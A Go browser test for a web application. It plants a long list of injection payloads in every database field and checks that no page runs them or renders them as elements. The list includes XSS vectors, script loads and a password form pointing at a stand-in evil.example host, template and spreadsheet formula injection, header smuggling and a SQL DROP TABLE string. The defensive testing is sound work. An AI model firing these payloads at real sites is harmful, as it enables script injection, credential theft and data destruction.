package main

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// newRefusal is an endpoint that answers every webhook 500 with a page.
func newRefusal(t *testing.T) *httptest.Server {
	t.Helper()
	e := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("content-type", "text/html")
		w.Header().Set("x-powered-by", "Acme 4.2")
		w.WriteHeader(http.StatusInternalServerError)
		fmt.Fprint(w, "<h1>Internal Server Error</h1>\n<p>no connection to the orders database</p>")
	}))
	t.Cleanup(e.Close)
	return e
}

// hostile are values that somebody outside may send to break a page. Each that
// runs calls ran(), each that becomes an element has the id of an intruder.
func hostile() []string {
	const run = `window.ran&&ran()`
	payloads := []string{
		`<script>` + run + `</script>`, `"><script>` + run + `</script>`,
		`'><script>` + run + `</script>`, `</textarea><script>` + run + `</script>`,
		`</title><script>` + run + `</script>`, `</pre></code><script>` + run + `</script>`,
		`</script><script>` + run + `</script>`, `--><script>` + run + `</script>`,
		`]]><script>` + run + `</script>`, `<script src=//evil.example/x.js></script>`,
		`<sCrIpT>` + run + `</ScRiPt>`, `<<script>` + run + `//<</script>`,
		`<script/x>` + run + `</script>`, "<script\x0b>" + run + `</script>`,
		`<b id=intruder>bold</b>`, `<h1 id=intruder>Heading</h1>`,
		`<form id=intruder action=//evil.example><input name=password>`,
		`<input id=intruder autofocus>`, `<button id=intruder formaction=//evil.example>x`,
		`<style id=intruder>*{display:none}</style>`,
		`<link id=intruder rel=stylesheet href=//evil.example>`,
		`<base id=intruder href=//evil.example/>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<iframe id=intruder src=javascript:parent.ran()></iframe>`,
		`<iframe id=intruder srcdoc="<script>parent.ran()</script>"></iframe>`,
		`<object id=intruder data=javascript:ran()></object>`,
		`<embed id=intruder src=javascript:ran()>`,
		`<a id=intruder href=javascript:ran()>link</a>`, `[link](javascript:ran())`,
		`javascript:ran()`, `JaVaScRiPt:ran()`, "java\tscript:ran()",
		`data:text/html,<script>ran()</script>`,
		`vbscript:ran()`, `x" autofocus onfocus="` + run, `x' onmouseover='` + run,
		"x` onerror=`" + run, `{{constructor.constructor("ran()")()}}`, `${ran()}`, `#{ran()}`,
		`<%= ran() %>`, `{{.}}`, `{{template "x"}}`,
		`<template id=intruder><script>ran()</script></template>`,
		`<math id=intruder><mtext><script>` + run + `</script>`,
		`&lt;script&gt;ran()&lt;/script&gt;`,
		`&#60;script&#62;ran()&#60;/script&#62;`, `%3Cscript%3Eran()%3C/script%3E`,
		`\u003cscript\u003eran()\u003c/script\u003e`, `\x3cscript\x3eran()`,
		`<div id=intruder hx-get=/console/sign-out hx-trigger=load>`,
		`<div id=intruder data-hx-on:load="ran()">`, `<p id=intruder hx-on::load="ran()">`,
		"\u202egnp.exe", "a\u200bb\u200cc\ufeffd", "\u2066left\u2069right",
		"e\u0301\u0302\u0303\u0304\u0305\u0306",
		strings.Repeat("W", 180), strings.Repeat("\u0e49", 60),
		"\U0001F468\u200D\U0001F469\u200D\U0001F467",
		`=cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(1+1)`, "line one\nline two\r\nX-Evil: yes",
		"\\0\\x00%00null", "null", "undefined", "NaN", "\uFFFD\uFFFF",
		"NULL'; DROP TABLE partners; --",
	}
	for _, event := range []string{"onerror", "onload", "onfocus", "onclick", "ontoggle", "onbegin"} {
		payloads = append(payloads,
			`<img id=intruder src=x `+event+`="`+run+`">`,
			`<svg id=intruder `+event+`=`+run+`>`,
			`<details id=intruder open `+event+`=`+run+`>`)
	}
	return payloads
}

// plant puts the payloads into all that partners, borrowers and endpoints send:
// one to a row where rows are many, all of them in a body that is answered.
var plant = []string{
	`UPDATE applications SET borrower_first_name = p(1), borrower_last_name = p(2),
		borrower_email = p(3), borrower_phone = p(4), project_name = p(5),
		project_description = p(6), project_address = p(7),
		external_reference = left(p(8), 200)`,
	`UPDATE partners SET name = left(p(9), 190)`,
	`UPDATE merchants SET name = left(p(10), 190)`,
	`UPDATE tasks SET title = p(11)`,
	`UPDATE subscriptions SET url = 'https://evil.example/' || p(12), alert_email = left(p(13), 250)`,
	`UPDATE subscription_versions SET url = 'https://evil.example/' || p(14), reason = p(15)`,
	`UPDATE probes SET error = p(16), address = p(17), location = p(18), certificate_issuer = p(19)`,
	`UPDATE subscription_errors SET error = p(20)`,
	`UPDATE attempts SET url = 'https://evil.example/' || p(21), error = p(22), note = p(23),
		address = p(24), protocol = p(25),
		request_headers = jsonb_build_array(jsonb_build_object('name', p(26), 'value', p(27))),
		response_headers = jsonb_build_array(jsonb_build_object('name', p(28), 'value', p(29)),
			jsonb_build_object('name', 'content-type', 'value', 'text/html')),
		response_body = convert_to((SELECT string_agg(text, E'\n') FROM payloads), 'UTF8')`,
	`UPDATE emails SET to_name = p(30), to_address = p(31), subject = p(32), text_body = p(33),
		reason = p(34)`,
	`UPDATE email_attempts SET reply = p(35), error = p(36), server = p(37)`,
	`UPDATE api_requests SET request_id = p(38), path = '/' || p(39), idempotency_key = p(40),
		user_agent = p(41), address = p(42)`,
	`UPDATE certificate_files SET name = p(43), content_type = p(44)`,
	`UPDATE certificates SET metadata = jsonb_build_object(p(45), p(46))`,
	`UPDATE events SET body = convert_to(jsonb_build_object(p(47), p(48))::text, 'UTF8')`,
	`INSERT INTO audit_log (at, actor, address, action, subject_kind, subject, reason)
		SELECT now(), p(1), p(2), p(3), 'partner', p(49), p(50) FROM generate_series(1, 80)`,
	`UPDATE attention_items SET detail = p(51)`,
	`UPDATE disbursements SET requested_by = p(52)`,
}

// sow makes p(n), which takes the payloads in turn, and plants them.
func (r *tour) sow(payloads []string) {
	r.t.Helper()
	statements := append([]string{
		`CREATE TABLE payloads (n serial, text text)`, `CREATE SEQUENCE turn`,
		`CREATE FUNCTION p(int) RETURNS text LANGUAGE sql VOLATILE AS
			'SELECT text FROM payloads WHERE n = (
				SELECT 1 + (nextval(''turn'') + $1) % (SELECT count(*) FROM payloads))'`,
	}, plant...)
	for i, statement := range statements {
		if i == 3 {
			for _, payload := range payloads {
				if _, err := r.db.Exec(`INSERT INTO payloads (text) VALUES ($1)`, payload); err != nil {
					r.t.Fatal(err)
				}
			}
		}
		if _, err := r.db.Exec(statement); err != nil {
			r.t.Fatalf("%v in %s", err, statement)
		}
	}
}

// guards note what runs, and what only the content security policy stops.
const guards = `
	window.caught = [];
	window.ran = () => { caught.push("it ran") };
	window.alert = window.confirm = window.prompt = () => { caught.push("a dialog") };
	addEventListener("securitypolicyviolation", (event) =>
		caught.push(event.violatedDirective + " of " + event.blockedURI + " " + event.sample));
	addEventListener("error", (event) => caught.push("error " + event.message));`

// TestHostileContentIsInert plants what somebody outside may send and visits
// every page: nothing runs, and nothing becomes a part of the page.
func TestHostileContentIsInert(t *testing.T) {
	t.Parallel()
	payloads := hostile()
	if len(payloads) < 60 {
		t.Fatalf("there are only %d payloads", len(payloads))
	}
	r := newTour(t)
	stops := r.stops()
	r.sow(payloads)
	do(t, r.browser, onEveryPage(guards), chromedp.EmulateViewport(wide, 900))
	signIn(t, r.browser, r.server.url, r.data.Users[2])
	for _, path := range stops {
		r.visit(path)
		caught := evaluate(t, r.browser, `[...caught, ...[...document.querySelectorAll(
			"#intruder, [href^='javascript:' i], [onerror], [onload], [onfocus], [onclick]")].map(
			(element) => element.outerHTML.slice(0, 200))].join("\n")`)
		if caught != "" {
			t.Errorf("%s: %s", path, caught)
		}
		r.shown(path)
	}
}

// shown fails the test when a character that turns text round is shown as such.
func (r *tour) shown(path string) {
	r.t.Helper()
	if evaluate(r.t, r.browser, `String(document.body.innerText.includes("\u202e"))`) == "true" {
		r.t.Errorf("%s shows a character that turns text round", path)
	}
}
